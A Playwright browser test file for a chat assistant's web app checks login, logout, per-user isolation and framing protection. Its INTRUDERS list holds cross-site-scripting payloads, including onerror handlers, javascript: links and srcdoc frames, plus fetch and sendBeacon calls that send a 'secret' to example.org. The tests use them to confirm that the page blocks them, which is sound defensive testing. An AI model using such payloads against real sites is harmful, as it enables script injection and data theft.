"""In a real browser: the login page, two users at once, and nothing that gets into a page runs or calls elsewhere."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from rag import Assistant
from tests.browser import ask
from tests.integration.serving import PASSWORDS, QUESTION, assistant, serving, users
from ui.users import Users

__all__ = ["assistant", "users"]
pytestmark = [pytest.mark.browser, pytest.mark.slow]

INTRUDERS = {
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.pwned = 1\">')",
    "inline script": "add('script', {textContent: 'window.pwned = 1'})",
    "foreign script": "add('script', {src: 'https://example.org/x.js'})",
    "data script": "add('script', {src: 'data:text/javascript,window.pwned=1'})",
    "javascript link": "add('a', {href: 'javascript:window.pwned = 1'}).click()",
    "frame": "add('iframe', {srcdoc: '<script>parent.pwned = 1</script>'})",
    "foreign frame": "add('iframe', {src: 'https://example.org/'})",
    "object": "add('object', {data: 'https://example.org/x.svg'})",
    "image": "add('img', {src: 'https://example.org/x.png?secret'})",
    "style": "add('link', {rel: 'stylesheet', href: 'https://example.org/x.css'})",
    "style image": "add('style', {textContent: 'body { background: url(https://example.org/x.png) }'})",
    "fetch": "fetch('https://example.org/?secret').catch(() => 0)",
    "beacon": "navigator.sendBeacon('https://example.org/', 'secret')",
    "events": "try { new EventSource('https://example.org/') } catch { }",
    "form": "const form = add('form', {action: 'https://example.org/', method: 'post'}); form.submit()",
}
ADD = "const add = (tag, values) => document.body.appendChild(Object.assign(document.createElement(tag), values));"


@pytest.fixture(scope="module")
def url(assistant: Assistant, users: Users) -> Iterator[str]:
    with serving(assistant, users=users) as url:
        yield url


def log_in(page: Page, url: str, name: str) -> None:
    page.goto(url)
    page.get_by_label("User name").fill(name)
    page.get_by_label("Password").fill(PASSWORDS[name])
    page.get_by_role("button", name="Log in").click()
    page.wait_for_selector("text=Ready")


def test_a_page_after_login_works_without_a_complaint_of_the_browser(browser: Browser, url: str) -> None:
    page = browser.new_page()
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    log_in(page, url, "anna")
    ask(page, QUESTION)
    page.locator("#chat .cite").first.click()
    expect(page.locator("#reader mark.quoted")).to_be_in_viewport()
    assert complaints == []
    page.close()


def test_a_wrong_password_is_said_and_the_name_kept(browser: Browser, url: str) -> None:
    page = browser.new_page()
    page.goto(url)
    page.get_by_label("User name").fill("anna")
    page.get_by_label("Password").fill("wrong-password")
    page.get_by_label("Password").press("Enter")
    expect(page.get_by_role("alert")).to_have_text("The user name or the password is wrong.")
    expect(page.get_by_label("User name")).to_have_value("anna")
    expect(page.get_by_label("Password")).to_have_value("")
    page.close()


def test_a_session_ends_by_the_link_and_then_the_page_says_so(browser: Browser, url: str) -> None:
    context = browser.new_context()
    page, other = context.new_page(), context.new_page()
    log_in(page, url, "anna")
    other.goto(url)
    other.get_by_role("link", name="Log out").click()
    expect(other.get_by_label("User name")).to_be_visible()
    page.fill("#question textarea", QUESTION)
    page.press("#question textarea", "Enter")
    expect(page.get_by_text("Your session has ended. Reload the page to log in again.")).to_be_visible()
    context.close()


def test_two_users_ask_at_once_and_see_their_own_answers_alone(browser: Browser, url: str) -> None:
    anna, ben = browser.new_context().new_page(), browser.new_context().new_page()
    log_in(anna, url, "anna")
    log_in(ben, url, "ben")
    for page, question in ((anna, QUESTION), (ben, "Which Nvidia chips need a licence for China?")):
        page.fill("#question textarea", question)
    for page in (anna, ben):
        page.press("#question textarea", "Enter")
    expect(anna.locator("#chat .answer:not(.provisional)")).to_contain_text("$589 billion")
    expect(ben.locator("#chat .answer:not(.provisional)")).to_contain_text("H20")
    expect(anna.locator("#chat")).not_to_contain_text("H20 chips")
    expect(ben.locator("#chat")).not_to_contain_text("$589 billion of market value")
    for page in (anna, ben):
        page.context.close()


@pytest.mark.parametrize("intruder", INTRUDERS)
def test_what_gets_into_the_page_neither_runs_nor_calls_elsewhere(browser: Browser, url: str, intruder: str) -> None:
    page = browser.new_page()
    answered: list[str] = []
    page.on("response", lambda response: answered.append(response.url))
    page.on("requestfinished", lambda request: answered.append(request.url))
    page.context.route("https://example.org/**", lambda route: route.fulfill(body="window.pwned = 1"))
    log_in(page, url, "anna")
    page.evaluate(f"() => {{ {ADD} {INTRUDERS[intruder]} }}")
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert [address for address in answered if not address.startswith((url, "data:", "blob:"))] == []
    assert page.url.startswith(url)
    page.close()


def test_no_other_site_can_frame_the_app(browser: Browser, url: str) -> None:
    page = browser.new_page()
    page.route("https://example.org/", lambda route: route.fulfill(body=f"<iframe src='{url}/login'></iframe>"))
    page.goto("https://example.org/")
    page.wait_for_timeout(300)
    assert not any("Password" in frame.content() for frame in page.frames[1:])
    page.close()
